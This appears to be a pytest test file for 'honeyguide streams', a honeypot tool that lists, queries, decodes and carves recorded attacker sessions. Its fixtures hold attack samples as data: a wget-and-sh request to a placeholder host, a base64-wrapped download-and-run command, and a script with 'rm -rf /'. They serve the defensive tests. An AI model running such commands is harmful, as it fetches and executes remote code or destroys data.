"""`honeyguide streams`: recorded conversations of the store or of a path, listed, shown, and written as they were."""

import base64
import hashlib
import json
import tarfile
from collections.abc import Callable
from pathlib import Path
from subprocess import CompletedProcess
from typing import Any

import pytest

Command = Callable[..., CompletedProcess[str]]

WEB = "httpd-192.0.2.1-80-198.51.100.7-40411-2026-11-22T18:35:07.475639-hlHfSz"
MONGO = "mongod-192.0.2.1-27017-198.51.100.7-40412-2026-11-22T18:36:07.000001-aaaaaa"
EMPTY = "mongod-192.0.2.1-27017-198.51.100.7-40413-2026-11-22T18:34:07.000001-bbbbbb"
DESK = "smbd-192.0.2.1-445-203.0.113.9-50000-2026-11-22T18:37:07.000001-cccccc"
RECORDINGS = {
    WEB: rb"stream = [('in', b'GET /a\x1b[31m HTTP/1.0\x0d\x0a\x0d\x0a'),"
    + b"\n"
    + rb"('out', b'HTTP/1.0 404 Not Found\x0d\x0a\x0d\x0a')]",
    MONGO: rb"stream = [('in', b'" + rb"\x00" * 16 + rb"')",
    EMPTY: b"",
    DESK: rb"stream = [('in', b'\x03\x00\x00*%\xe0\x00\x00\x00\x00\x00Cookie: mstshash=beio\x0d\x0a\x01\x00\x08\x00\x03\x00\x00\x00')]",
}
KEYS = "id started_at source.ip source.port destination.ip destination.port service protocol tool step certainty bytes_in bytes_out complete summary"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A day of recordings, and a log that is none."""
    day = tmp_path / "bistreams" / "2026-11-22"
    day.mkdir(parents=True)
    for name, data in RECORDINGS.items():
        (day / name).write_bytes(data)
    (day / "notes.txt").write_text("no recording\n")
    return day.parent


def rows(answer: CompletedProcess[str]) -> list[dict[str, Any]]:
    assert answer.returncode == 0, answer.stderr
    return [json.loads(line) for line in answer.stdout.splitlines()]


def test_a_path_is_looked_into_and_kept_nowhere(honeyguide: Command, folder: Path, tmp_path: Path) -> None:
    found = rows(honeyguide("streams", "list", folder, "--json"))
    assert [row["id"] for row in found] == [EMPTY, WEB, MONGO, DESK]
    assert all(list(row) == KEYS.split() for row in found)
    assert not (tmp_path / "data").exists()
    web, mongo, desk = found[1:]
    assert {name: web[name] for name in ("started_at", "source.ip", "source.port", "destination.ip", "destination.port", "service")} == {
        "started_at": "2026-11-22T18:35:07.475639Z",
        "source.ip": "198.51.100.7",
        "source.port": 40411,
        "destination.ip": "192.0.2.1",
        "destination.port": 80,
        "service": "httpd",
    }
    assert (web["protocol"], web["bytes_in"], web["bytes_out"], web["complete"]) == ("http", 24, 26, True)
    assert (mongo["bytes_in"], mongo["complete"]) == (16, False)
    assert "beio" in desk["summary"]
    assert desk["tool"] == "service scanner"
    assert 0.5 <= desk["certainty"] <= 1.0


def test_the_store_is_asked_with_kql(honeyguide: Command, folder: Path) -> None:
    honeyguide("ingest", folder)
    assert [row["id"] for row in rows(honeyguide("streams", "list", "--json"))] == [EMPTY, WEB, MONGO, DESK]
    for query, ids in {
        "source.ip: 198.51.100.7 and network.protocol: http": [WEB],
        "honeypot.fault: DIO-MONGO-LENGTH": [MONGO],
        "payload.text: mstshash": [DESK],
        "payload.hex: 4745 54 20 2f": [WEB],
        "honeypot.payload.hex: *474554*": [WEB],
        "tool.disguise: beio": [DESK],
        "source.bytes: 0": [EMPTY],
    }.items():
        assert [row["id"] for row in rows(honeyguide("streams", "list", query, "--json"))] == ids, query


def test_a_span_of_time_holds_for_paths_too(honeyguide: Command, folder: Path) -> None:
    for arguments, ids in {
        ("--since", "2026-11-22T18:36"): [MONGO, DESK],
        ("--until", "2026-11-22T18:35"): [EMPTY],
        ("--since", "2026-11-22T18:35", "--until", "2026-11-22T18:37"): [WEB, MONGO],
        ("--since", "2030-01-01"): [],
    }.items():
        assert [row["id"] for row in rows(honeyguide("streams", "list", folder, "--json", *arguments))] == ids


def test_alike_payloads_are_found_from_the_nearest_on(honeyguide: Command, tmp_path: Path) -> None:
    request = "GET /shell?cd+/tmp;wget+http://198.51.100.{}/jaws;sh HTTP/1.1\\x0d\\x0aUser-Agent: Hello, world\\x0d\\x0aHost: 192.0.2.1:80"
    said = {WEB: request.format(1), MONGO: request.format(27), DESK: "".join(f"\\x{byte:02x}" for byte in range(256))}
    day = tmp_path / "day"
    day.mkdir()
    for name, text in said.items():
        (day / name).write_text(f"stream = [('in', b'{text}')]")
    for like in (WEB, day / WEB):
        found = rows(honeyguide("streams", "list", day, "--json", "--like", like))
        assert [(row["id"], row["distance"] == 0) for row in found] == [(WEB, True), (MONGO, False)]
    assert [row["id"] for row in rows(honeyguide("streams", "list", day, "--json", "--like", WEB, "--distance", "0"))] == [WEB]
    honeyguide("ingest", day)
    assert [row["id"] for row in rows(honeyguide("streams", "list", "--json", "--like", WEB))] == [WEB, MONGO]
    assert "there is no TLSH" in honeyguide("streams", "list", folder_of_short(tmp_path), "--like", EMPTY).stderr


def folder_of_short(tmp_path: Path) -> Path:
    place = tmp_path / "short"
    place.mkdir()
    (place / EMPTY).write_bytes(b"stream = [('in', b'short')]")
    return place


def test_ids_of_an_archive_can_be_shown(honeyguide: Command, folder: Path, tmp_path: Path) -> None:
    archive = tmp_path / "day.tar.gz"
    with tarfile.open(archive, "w:gz") as members:
        members.add(folder, "bistreams")
    honeyguide("ingest", archive)
    assert honeyguide("streams", "show", WEB, "--raw", "out").stdout == "HTTP/1.0 404 Not Found\n\n"
    archive.rename(tmp_path / "moved.tar.gz")
    gone = honeyguide("streams", "show", WEB)
    assert gone.returncode == 1
    assert "--path" in gone.stderr
    assert honeyguide("streams", "show", WEB, "--path", tmp_path / "moved.tar.gz").returncode == 0


def test_a_dialogue_is_shown_without_steering_the_terminal(honeyguide: Command, folder: Path) -> None:
    shown = honeyguide("streams", "show", WEB, "--path", folder).stdout
    assert "\x1b" not in shown
    assert shown.splitlines()[0] == WEB
    asked, answered = (line for line in shown.splitlines() if line.startswith(("→", "←")))
    assert asked.startswith("→ GET /a\\x1b[31m HTTP/1.0")
    assert answered.startswith("← HTTP/1.0 404 Not Found")
    assert "00000000  47 45 54 20" in honeyguide("streams", "show", folder / "2026-11-22" / WEB, "--hex").stdout


def test_bytes_that_nobody_decodes_are_dumped(honeyguide: Command, tmp_path: Path) -> None:
    file = tmp_path / DESK
    file.write_bytes(rb"stream = [('in', b'\x91\x82\xfe\xef')]")
    assert "00000000  91 82 fe ef" in honeyguide("streams", "show", file).stdout


def test_a_capture_is_written(honeyguide: Command, folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "talk.pcapng"
    assert honeyguide("streams", "show", WEB, "--path", folder, "--pcapng", out).stdout == ""
    assert out.read_bytes().startswith(b"\x0a\x0d\x0d\x0a")
    assert b"GET /a\x1b[31m HTTP/1.0\r\n\r\n" in out.read_bytes()


@pytest.mark.parametrize(
    ("arguments", "code", "words"),
    [
        (["list", "source.ip: ("], 1, "character"),
        (["show", "nothing-of-that-name"], 1, "streams list"),
        (["show"], 2, "ID"),
        (["show", "x", "--raw", "both"], 2, "--raw"),
        (["count"], 2, "count"),
    ],
)
def test_what_goes_wrong_is_said(honeyguide: Command, arguments: list[str], code: int, words: str) -> None:
    answer = honeyguide("streams", *arguments)
    assert (answer.returncode, answer.stdout) == (code, "")
    assert words in answer.stderr


def test_pasted_text_is_named_with_what_it_is_and_is_not(honeyguide: Command) -> None:
    pasted = "random1random2random3random4\nCookie: mstshash=beio\nDmdT\nnonebeio\nobjectClass\nMSSQLServer\ncursoridnstestfirstBatch ok\n"
    shown = honeyguide("streams", "show", "--text", "-", stdin=pasted).stdout
    assert "its own name replaced by 'beio'" in shown
    assert "not text in some encoding" in shown
    assert "no sign of a break-in" in shown
    found = rows(honeyguide("streams", "show", "--text", "-", "--json", stdin=pasted))
    assert [row["protocol"] for row in found] == ["tls", "rdp", "ncp", None, "ldap", "tds", "mongodb"]


def literal(data: bytes) -> bytes:
    return b"stream = [('in', b'" + b"".join(b"\\x%02x" % byte for byte in data) + b"')]"


@pytest.fixture
def upload(tmp_path: Path) -> Path:
    """A recording of somebody who sends a script, and a command wrapped in base64."""
    wrapped = base64.b64encode(b"wget http://198.51.100.7/x -O /tmp/x; sh /tmp/x")
    file = tmp_path / WEB
    file.write_bytes(literal(b"POST /?c=" + wrapped + b" HTTP/1.1\r\n\r\n#!/bin/sh\nrm -rf /\nwget http://198.51.100.7/x\n"))
    return file


def test_files_are_carved_under_names_of_ours_and_nobody_may_run_them(honeyguide: Command, upload: Path, tmp_path: Path) -> None:
    answer = honeyguide("streams", "show", upload, "--carve", tmp_path / "out")
    (carved,) = (tmp_path / "out").iterdir()
    assert carved.name == f"{WEB}.in-1.sh.carved"
    assert carved.read_bytes() == b"#!/bin/sh\nrm -rf /\nwget http://198.51.100.7/x\n"
    assert carved.stat().st_mode & 0o777 == 0o600
    assert hashlib.sha256(carved.read_bytes()).hexdigest() in answer.stdout
    (tmp_path / DESK).write_bytes(RECORDINGS[DESK])
    assert honeyguide("streams", "show", tmp_path / DESK, "--carve", tmp_path / "none").stdout == "No file was found in it.\n"


def test_layers_and_strings_are_shown(honeyguide: Command, upload: Path) -> None:
    shown = honeyguide("streams", "show", upload).stdout
    assert "layer 1, base64 at 9–73, 47 bytes: wget http://198.51.100.7/x -O /tmp/x; sh /tmp/x" in shown
    told = honeyguide("streams", "show", upload, "--strings").stdout.splitlines()
    assert "the peer, 96: rm -rf /" in told


def test_a_conversation_is_one_document(honeyguide: Command, folder: Path) -> None:
    answer = honeyguide("streams", "show", WEB, "--path", folder, "--json")
    found = json.loads(answer.stdout)
    assert [name for name in found if name in KEYS.split()] == KEYS.split()
    assert found["schema"] == "honeyguide.stream/1"
    assert [(one["direction"], one["bytes"]) for one in found["turns"]] == [("in", 24), ("out", 26)]
    asked = found["messages"][0]
    assert (asked["direction"], asked["start"], asked["end"]) == ("in", 0, 24)
    assert "\x1b" not in answer.stdout
